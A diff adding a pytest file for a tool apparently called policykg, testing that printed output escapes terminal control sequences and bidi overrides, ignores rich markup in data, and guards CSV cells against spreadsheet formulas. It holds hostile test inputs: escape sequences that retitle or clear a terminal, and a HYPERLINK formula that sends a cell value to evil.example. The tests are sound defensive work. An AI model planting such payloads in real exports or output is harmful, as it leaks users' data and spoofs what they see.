@@ -1,0 +1,167 @@
+"""What policykg prints and writes is safe and faithful (kg.terminal, kg.render): control characters and
+bidi overrides from data are shown, never obeyed; data is never read as rich markup; CSV cells never start
+a spreadsheet formula. `hostile_card()` is the card the CLI tests (test_cli, test_validate, test_queries)
+run through every command."""
+from __future__ import annotations
+
+import hashlib
+import io
+import json
+import re
+import shutil
+import unicodedata
+from pathlib import Path
+
+import pyoxigraph as ox
+import pytest
+from rich.console import Console
+from rich.table import Table
+
+from kg import namespaces as ns
+from kg.queries import QueryResult, parse_query
+from kg.render import csv_rows, spreadsheet_cell, to_csv, to_table
+from kg.terminal import error_text, printable, rich_text
+
+from .conftest import FIXTURES
+
+# OSC (window title), ED (clear screen), SGR (red), an 8-bit CSI, markup, bidi override and isolate
+HOSTILE = "Evil \x1b]0;PWNED\x1b\\ clear\x1b[2J red\x1b[31m csi\x9b1m [/bold] bidi\u202e\u2066 end"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+BIDI = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
+
+
+def raw_controls(text: str) -> list[str]:
+    """The characters of `text` a terminal would obey: controls other than newline and tab, bidi overrides
+    and isolates (checked with unicodedata, independently of kg.terminal)."""
+    return [c for c in text if (unicodedata.category(c) == "Cc" and c not in "\n\t") or c in BIDI]
+
+
+def hostile_card(folder: Path) -> Path:
+    """A copy of tests/fixtures (card and snapshot) under `folder` whose title, process label, quotes
+    (E01 and a new E07) and names hold HOSTILE, the controller's name a spreadsheet formula; the process has
+    no legal basis, so validation reports a finding on it (with its label) and quotes E01."""
+    shutil.copytree(FIXTURES / "policies", folder / "policies")
+    shutil.copytree(FIXTURES / "sources", folder / "sources")
+    snapshot = folder / "sources" / "example" / "2024-01-31.fr.txt"
+    snapshot.write_text(snapshot.read_text(encoding="utf-8") + "\n" + HOSTILE + "\n", encoding="utf-8")
+    card = folder / "policies" / "minimal.yaml"
+    text = card.read_text(encoding="utf-8")
+    q = json.dumps   # a JSON string is a YAML double-quoted scalar: "\u001b" is ESC
+    text = re.sub(r"sha256: \w+", "sha256: " + hashlib.sha256(snapshot.read_bytes()).hexdigest(), text)
+    text = text.replace("title: Politique de confidentialité — Example", f"title: {q('Title ' + HOSTILE)}")
+    text = text.replace("label: {fr: Lettre d'information, en: Newsletter}",
+                        f"label: {{fr: {q('Lettre ' + HOSTILE)}, en: {q('News ' + HOSTILE)}}}")
+    text = text.replace('quote: "Dernière mise à jour : 31/01/2024"', f"quote: {q(HOSTILE)}")
+    text = text.replace("dpv:hasName: Example SAS", f"dpv:hasName: {q(FORMULA)}")
+    text = text[:text.index("      - id: E06")]   # no legal basis: a finding on the process
+    text += (f"      - id: E07\n        quote: {q(HOSTILE)}\n        dpv:hasRecipient:\n"
+             f"          id: evil-recipient\n          a: dpv:ThirdParty\n"
+             f"          dpv:hasName: {q(FORMULA + ' ' + HOSTILE)}\n")
+    card.write_text(text, encoding="utf-8")
+    return card
+
+
+# --- printable --------------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("text, shown", [
+    ("\x1b]0;PWNED\x1b\\", "\\x1b]0;PWNED\\x1b\\"),
+    ("a\x1b[2Jb\x1b[31m", "a\\x1b[2Jb\\x1b[31m"),
+    ("csi\x9b1m nel\x85 del\x7f bell\x07 bs\x08 nul\x00", "csi\\x9b1m nel\\x85 del\\x7f bell\\x07 bs\\x08 nul\\x00"),
+    ("line\nnext\r", "line\\nnext\\r"),
+    ("tab\tkept", "tab\tkept"),
+    ("\u202eabc\u202c \u2066x\u2069 \u202a\u202b\u202d\u2067\u2068", "\\u202eabc\\u202c \\u2066x\\u2069 "
+                                                                    "\\u202a\\u202b\\u202d\\u2067\\u2068"),
+    ("sep\u2028par\u2029", "sep\\u2028par\\u2029"),
+    ("x\udcffy", "x\\xffy"),                       # a byte that was not UTF-8 (surrogateescape) is that byte
+    ("Lettre d’information — é ✓ 中文 עברית", "Lettre d’information — é ✓ 中文 עברית"),
+])
+def test_printable_shows_controls_and_keeps_text(text, shown):
+    assert printable(text) == shown
+    assert not raw_controls(printable(text))
+
+
+def test_printable_of_any_object_and_of_every_control():
+    assert printable(Path("a\x1bb")) == "a\\x1bb"
+    every = "".join(map(chr, range(0x00, 0xA0))) + "".join(sorted(BIDI))
+    assert not raw_controls(printable(every)) and "\t" in printable(every)
+
+
+def test_error_text_escapes_each_field_of_the_block():
+    from kg.errors import Location, UnknownTermError
+    exc = UnknownTermError("'dpv:X\x1b[31m' is not a term", Location("a\x1b.yaml", 3, 4), "fix\n  where: forged")
+    lines = error_text(exc).splitlines()
+    assert lines[0] == "error[PKG-E012 unknown-term]: 'dpv:X\\x1b[31m' is not a term"
+    assert lines[1] == "  where: a\\x1b.yaml:3:4" and lines[2] == "  fix:   fix\\n  where: forged"
+    assert len(lines) == 4   # the newline in the fix did not forge a line
+
+
+def _shown(renderable) -> str:
+    out = io.StringIO()
+    Console(file=out, width=200, force_terminal=True, color_system=None).print(renderable)
+    return out.getvalue()
+
+
+def test_rich_text_is_never_markup():
+    table = Table(title=rich_text("[bold]" + HOSTILE))
+    table.add_column(rich_text("[/red]"))
+    table.add_row(rich_text(HOSTILE + " :warning:"))
+    shown = _shown(table)                          # a str cell "[/bold]" raises rich.errors.MarkupError
+    assert "[/bold]" in shown and "[bold]" in shown and "[/red]" in shown and ":warning:" in shown
+    assert not raw_controls(shown) and "\\x1b]0;PWNED" in shown
+
+
+# --- query results ----------------------------------------------------------------------------------------
+
+ECHO = """# title: Echo \x1b[2J [/bold]
+# description: Gives back its values (a test fixture).
+# columns: a b c
+SELECT ?a ?b ?c WHERE { }
+ORDER BY ?a
+"""
+INTEGER, DOUBLE = ox.NamedNode(ns.XSD + "integer"), ox.NamedNode(ns.XSD + "double")
+
+
+def _result(*rows):
+    return QueryResult(parse_query(Path("x.rq"), ECHO), ["a", "b", "c"], list(rows), ECHO)
+
+
+def test_table_cells_and_title_are_text():
+    shown = _shown(to_table(_result((ox.Literal(HOSTILE), ox.Literal("[/bold]", language="fr"), None))))
+    assert not raw_controls(shown) and "[/bold]" in shown and "\\x1b[2J" in shown and "\\u202e" in shown
+
+
+@pytest.mark.parametrize("text, term, written", [
+    (FORMULA, None, "'" + FORMULA),
+    ("+33 1 23 45 67 89", ox.Literal("+33 1 23 45 67 89"), "'+33 1 23 45 67 89"),
+    ("-1", ox.Literal("-1"), "'-1"),                                        # a string, not a number
+    ("-1", ox.Literal("-1", datatype=INTEGER), "-1"),                       # a number: left as it is
+    ("+2.5E3", ox.Literal("+2.5E3", datatype=DOUBLE), "+2.5E3"),
+    ("-INF", ox.Literal("-INF", datatype=DOUBLE), "'-INF"),                 # not a plain number
+    ("=1+2", ox.Literal("=1+2", datatype=INTEGER), "'=1+2"),                # ill-typed: still text
+    ("@SUM(A1:A9)", None, "'@SUM(A1:A9)"),
+    ("\t=1", None, "'\t=1"), ("\r=1", None, "'\r=1"), ("\x00=1", None, "'\x00=1"),
+    ("dpv:Marketing", None, "dpv:Marketing"), ("a=b", None, "a=b"), ("", None, ""), ("'=x", None, "'=x"),
+])
+def test_spreadsheet_cell(text, term, written):
+    assert spreadsheet_cell(text, term) == written
+
+
+def test_csv_cells_are_spreadsheet_safe_unless_raw():
+    result = _result((ox.Literal(FORMULA), ox.Literal("-30", datatype=INTEGER), ox.Literal("+33 1 23")),
+                     (ox.NamedNode(ns.DPV + "Marketing"), ox.Literal("@x", language="fr"), None))
+    import csv
+    for delimiter in (",", "\t"):
+        rows = list(csv.reader(io.StringIO(to_csv(result, delimiter)), delimiter=delimiter))
+        assert rows == [["a", "b", "c"], ["'" + FORMULA, "-30", "'+33 1 23"], ["dpv:Marketing", "'@x", ""]]
+        raw = list(csv.reader(io.StringIO(to_csv(result, delimiter, raw=True)), delimiter=delimiter))
+        assert raw == csv_rows(result)             # --raw-csv: the expected-result cells, as stored
+
+
+def test_csv_cell_with_a_carriage_return_stays_one_cell():
+    """Python's csv module quotes only the characters of the line terminator (LF here): a CR inside a cell
+    was written bare, and every reader split the row there."""
+    import csv
+    result = _result((ox.Literal("a\rb"), ox.Literal("x"), None))
+    for raw in (False, True):
+        rows = list(csv.reader(io.StringIO(to_csv(result, raw=raw), newline="")))
+        assert rows == [["a", "b", "c"], ["a\rb", "x", ""]]
